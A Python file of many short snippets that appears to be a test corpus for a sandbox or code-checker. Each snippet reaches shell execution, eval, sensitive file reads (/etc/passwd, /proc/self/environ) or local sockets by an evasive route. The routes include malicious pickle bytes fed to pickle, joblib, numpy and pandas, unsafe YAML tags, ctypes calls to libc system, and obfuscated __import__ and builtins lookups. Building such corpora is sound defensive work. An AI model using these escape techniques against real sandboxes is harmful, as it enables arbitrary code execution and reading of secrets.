import pickle
pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
# ---
from _pickle import loads as read
read(b"cposix\nsystem\n(S'id'\ntR.")
# ---
import pickle, io
pickle.Unpickler(io.BytesIO(b"cos\nsystem\n(S'id'\ntR.")).load()
# ---
import joblib, tempfile, pathlib
p = pathlib.Path(tempfile.mkdtemp()) / "m"
p.write_bytes(b"cos\nsystem\n(S'id'\ntR.")
joblib.load(p)
# ---
from joblib import load as l
import io
l(io.BytesIO(b"cos\nsystem\n(S'id'\ntR."))
# ---
import joblib
joblib.numpy_pickle.load(__import__("io").BytesIO(b"cos\nsystem\n(S'id'\ntR."))
# ---
from joblib import Parallel, delayed
import os
Parallel(1)([delayed(os.system)("id")])
# ---
import joblib
joblib.Parallel(n_jobs=2)([joblib.delayed(exec)("print('caught', flush=True)") for _ in range(2)])
# ---
import dill
dill.loads(b"cos\nsystem\n(S'id'\ntR.")
# ---
import cloudpickle as cp
cp.loads(b"cos\nsystem\n(S'id'\ntR.")
# ---
import numpy as np, io
np.load(io.BytesIO(b"cos\nsystem\n(S'id'\ntR."), allow_pickle=True)
# ---
import numpy as np, io
kw = {"allow" + "_pickle": True}
np.load(io.BytesIO(b"cos\nsystem\n(S'id'\ntR."), **kw)
# ---
import numpy as np, io
from functools import partial
read = partial(np.load, allow_pickle=True)
read(io.BytesIO(b"cos\nsystem\n(S'id'\ntR."))
# ---
import numpy as np, io
load = np.load
(lambda f, *a, **k: f(*a, **k))(load, io.BytesIO(b"cos\nsystem\n(S'id'\ntR."), allow_pickle=True)
# ---
import numpy as np, io
f = getattr(np, "lo" + "ad")
f(io.BytesIO(b"cos\nsystem\n(S'id'\ntR."), None, True)
# ---
from numpy import load, lib
import io
lib.npyio.NpzFile
list(map(load, [io.BytesIO(b"cos\nsystem\n(S'id'\ntR.")], [None], [True]))
# ---
import pandas as pd, io
pd.read_pickle(io.BytesIO(b"cos\nsystem\n(S'id'\ntR."), compression=None)
# ---
from pandas import read_pickle as rp
import io
rp(io.BytesIO(b"cos\nsystem\n(S'id'\ntR."), compression=None)
# ---
import pandas as pd, io
pd.io.pickle.pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
# ---
import pandas as pd, io
getattr(pd, "read_" + "pickle")(io.BytesIO(b"cos\nsystem\n(S'id'\ntR."), compression=None)
# ---
import pandas as pd, io
{"r": pd.read_pickle}["r"](io.BytesIO(b"cos\nsystem\n(S'id'\ntR."), compression=None)
# ---
import yaml
yaml.load("!!python/object/apply:os.system [id]", Loader=yaml.UnsafeLoader)
# ---
import yaml
yaml.load("!!python/object/apply:os.system [id]", yaml.Loader)
# ---
from yaml import unsafe_load
unsafe_load("!!python/object/apply:os.system ['id']")
# ---
from yaml import UnsafeLoader
UnsafeLoader("!!python/object/apply:os.system ['id']").get_single_data()
# ---
import yaml
loader = yaml.Loader("!!python/object/apply:os.system ['id']")
loader.get_single_data()
# ---
import yaml
yaml.loader.UnsafeLoader("!!python/object/apply:os.system ['id']").get_data()
# ---
import ctypes
ctypes.CDLL(None).system(b"id")
# ---
from ctypes import pythonapi, py_object
pythonapi.PyRun_SimpleString(b"print('caught')")
# ---
import ctypes.util as u
u.os.system("id")
# ---
import _ctypes
libc = _ctypes.dlopen(None, 0)
_ctypes.call_function(_ctypes.dlsym(libc, "system"), (b"id",))
# ---
import numpy.ctypeslib as nc
nc.load_library("libc.so.6", "/lib/x86_64-linux-gnu").system(b"id")
# ---
from numpy import ctypeslib as n
n.ctypes.CDLL(None).system(b"id")
# ---
import numpy as np
np.zeros(1).ctypes._ctypes.CDLL(None).system(b"id")
# ---
import numpy as np
a = np.arange(3)
a.ctypes.data_as.__func__.__globals__["ctypes"].CDLL(None).system(b"id") if hasattr(a.ctypes.data_as, "__func__") else None
# ---
import cffi
f = cffi.FFI()
f.cdef("int system(const char *);")
f.dlopen(None).system(b"id")
# ---
import zipimport
zipimport.sys.modules["os"].system("id")
# ---
import _io
_io.open_code
_io.__loader__.load_module("posix").system("id")
# ---
import _frozen_importlib as f
f._gcd_import("os").system("id")
# ---
import _frozen_importlib_external as e
e._os.system("id")
# ---
import _imp
_imp.is_builtin("posix")
_imp.create_builtin(type("S", (), {"name": "posix"})).system("id")
# ---
import importlib.util as u
s = u.find_spec("os")
m = u.module_from_spec(s)
s.loader.exec_module(m)
m.system("id")
# ---
from importlib.machinery import SourceFileLoader
SourceFileLoader("x", "/usr/lib/python3.11/os.py").load_module().system("id")
# ---
import importlib.abc as a
a.sys.modules["os"].system("id") if hasattr(a, "sys") else a._bootstrap_external._os.system("id")
# ---
from importlib import import_module as bring
bring("o" + "s").system("id")
# ---
import importlib as lib
getattr(lib, "import_module")("os").system("id")
# ---
imp = __import__
imp("os").system("id")
# ---
[__import__][0]("os").system("id")
# ---
(lambda i=__import__: i("os"))().system("id")
# ---
list(map(__import__, ["os"]))[0].system("id")
# ---
import functools
functools.partial(__import__, "os")().system("id")
# ---
__import__("".join(chr(ord(c) - 1) for c in "pt")).system("id")
# ---
__import__("so"[::-1]).system("id")
# ---
__import__(bytes.fromhex("6f73").decode()).system("id")
# ---
__import__(name="os").system("id")
# ---
__import__("os.path").system("id")
# ---
import builtins
getattr(builtins, "__imp" "ort__")("os").system("id")
# ---
import builtins
builtins.__dict__["ev" + "al"]("print('caught')")
# ---
from builtins import exec as run
run("print('caught')")
# ---
from builtins import *
__import__("os").system("id")
# ---
import builtins as b
for n in ("e" + "xec",):
    getattr(b, n)("print('caught')")
# ---
import builtins
def pick(m, n):
    return getattr(m, n)
pick(builtins, "eval")("print('caught')")
# ---
import builtins
builtins.print = exec
print("import os; os.system('id')")
# ---
import builtins
setattr(builtins, "len", eval)
len("__import__('os').system('id')")
# ---
import os
os.execvp("id", ["id"])
# ---
import os
os.execve("/usr/bin/id", ["id"], {})
# ---
import os
os.spawnv(os.P_WAIT, "/usr/bin/id", ["id"])
# ---
import os
os.posix_spawn("/usr/bin/id", ["id"], {}); os.wait()
# ---
import os
if os.fork() == 0:
    os.write(1, b"caught\n")
    os._exit(0)
os.wait()
# ---
import os
pid, fd = os.forkpty()
if pid == 0:
    os._exit(0)
print("caught")
# ---
import os as o
x = o
y = [x]
z = {"m": y}
z["m"][0].system("id")
# ---
import os
def give(m=os): return m
give().system("id")
# ---
import os
class Holder:
    def __init__(self, m): self.m = m
Holder(os).m.system("id")
# ---
import os
class Holder:
    m = None
    def go(self): return self.m.system("id")
h = Holder()
h.m = os
h.go()
# ---
import os
def call(m, n):
    return getattr(m, n)
call(os, "sys" + "tem")("id")
# ---
import os
def run(tool, command):
    return tool.system(command)
run(os, "id")
# ---
import os
stack = []
stack.append(os)
stack.pop().system("id")
# ---
import os
m = (lambda: os)()
m.system("id")
# ---
import os
def gen():
    yield os
for q in gen(): q.system("id")
# ---
import os
a, b = os, 1
a.system("id")
# ---
import os
def outer():
    lib = os
    def inner():
        nonlocal lib
        return lib.system("id")
    return inner()
outer()
# ---
import os
try:
    raise Exception(os)
except Exception as e:
    e.args[0].system("id")
# ---
import os
next(iter({os})).system("id")
# ---
import os
(os if 1 else 0).system("id")
# ---
import os
(os or 0).system("id")
# ---
import os
(w := os).system("id")
# ---
import os
[o.system("id") for o in [os]]
# ---
import os
{k: v.system("id") for k, v in {"a": os}.items()}
# ---
import os
type("X", (), {"o": os}).o.system("id")
# ---
import os
vars()["os"].system("id")
# ---
import os
globals()["o" + "s"].system("id")
# ---
import os
globals().get("os").system("id")
# ---
import os
dict(locals())["os"].system("id")
# ---
import os
from types import SimpleNamespace
SimpleNamespace(**vars(os)).system("id")
# ---
import os
from collections import ChainMap
ChainMap(vars(os))["system"]("id")
# ---
import os
class Wrapper:
    def __init__(self, m): self.__dict__.update(m.__dict__)
Wrapper(os).system("id")
# ---
import os
class Proxy:
    def __getattr__(self, n): return getattr(os, n)
Proxy().system("id")
# ---
import os
from functools import singledispatch, cache
@cache
def tool(): return os
tool().system("id")
# ---
import os, functools
functools.reduce(getattr, ["system"], os)("id")
# ---
import functools
functools.reduce(getattr, ["__class__", "__base__"], ()).__subclasses__()
functools.reduce(getattr, "__self__".split("."), print).eval("print('caught')")
# ---
import functools
functools.reduce(lambda o, n: getattr(o, n), "__init__.__globals__".split("."), type("A", (), {"__init__": lambda s: 0}))["__builtins__"].eval("print('caught')")
# ---
import operator
operator.attrgetter("__self__")(print).eval("print('caught')")
# ---
import operator
operator.attrgetter("__" + "self" + "__.eval")(print)("print('caught')")
# ---
import operator
operator.methodcaller("__getattribute__", "__self__")(print).eval("print('caught')")
# ---
print.__getattribute__("__self__").eval("print('caught')")
# ---
object.__getattribute__(print, "__self__").eval("print('caught')")
# ---
type(print).__dict__["__self__"].__get__(print).eval("print('caught')")
# ---
import inspect
inspect.getattr_static(type(print), "__self__").__get__(print).eval("print('caught')")
# ---
import inspect
dict(inspect.getmembers(print))["__self__"].eval("print('caught')")
# ---
[getattr(print, n) for n in dir(print) if n.endswith("self__")][0].eval("print('caught')")
# ---
getattr(print, dir(print)[-5]) if False else getattr(print, [n for n in dir(print) if "self" in n][0]).eval("print('caught')")
# ---
import operator
f = operator.attrgetter(*["__self__"])
f(print).eval("print('caught')")
# ---
import types, os
types.SimpleNamespace(run=os.system).run("id")
# ---
import types
m = types.ModuleType("m")
m.__dict__
m.run = eval
m.run("print('caught')")
# ---
import types
types.DynamicClassAttribute
types.MethodType(exec, "print('caught')")()
# ---
import types
types.coroutine(lambda: 0)
types.new_class("A", (), {}, lambda ns: ns.update(f=eval)).f("print('caught')")
# ---
import pathlib
print("caught", len(pathlib.Path("/etc/passwd").read_text()))
# ---
from pathlib import Path
print("caught", len((Path("/etc") / "passwd").read_text()))
# ---
import os.path
print("caught", len(open(os.path.join("/etc", "passwd")).read()))
# ---
p = ["", "etc", "passwd"]
print("caught", len(open("/".join(p)).read()))
# ---
print("caught", len(open("/etc/../etc/passwd").read()))
# ---
print("caught", len(open("//etc//passwd").read()))
# ---
print("caught", len(open("/proc/%s/environ" % "self", "rb").read()))
# ---
from pathlib import Path
print("caught", len(Path("/", "proc", "self", "environ").read_bytes()))
# ---
import os
print("caught", len(open(f"/proc/{os.getpid()}/maps").read()))
# ---
import os
print("caught", os.listdir("/root/") is not None)
# ---
import socket
s = socket.socket()
s.connect_ex(("127.0.0.1", 9))
# ---
import _socket
_socket.socket().connect_ex(("127.0.0.1", 9))
# ---
from socket import *
create_connection(("127.0.0.1", 9))
# ---
import http.client
http.client.HTTPConnection("127.0.0.1", 9).request("GET", "/")
# ---
import urllib3
urllib3.PoolManager().request("GET", "http://127.0.0.1:9/")
# ---
import requests as r
r.get("http://127.0.0.1:9/")
# ---
import asyncio
asyncio.run(asyncio.open_connection("127.0.0.1", 9))
# ---
import asyncio
async def m():
    await asyncio.get_running_loop().create_connection(asyncio.Protocol, "127.0.0.1", 9)
asyncio.run(m())
# ---
import asyncio
async def m():
    loop = asyncio.get_event_loop()
    await loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=("127.0.0.1", 9))
asyncio.run(m())
# ---
import asyncio
asyncio.events.subprocess.run("id")
# ---
import selectors, asyncio.selector_events as s
s.socket.socket().connect_ex(("127.0.0.1", 9))
# ---
import multiprocessing.connection as c
c.Client(("127.0.0.1", 9))
# ---
import ssl
ssl.get_server_certificate(("127.0.0.1", 9))
# ---
import telnetlib
telnetlib.Telnet("127.0.0.1", 9)
# ---
import sys
sys.stdout.write.__self__
sys.stdin.__class__.__init__
open.__self__.open
io = open.__self__
io.__loader__.load_module("posix").system("id")
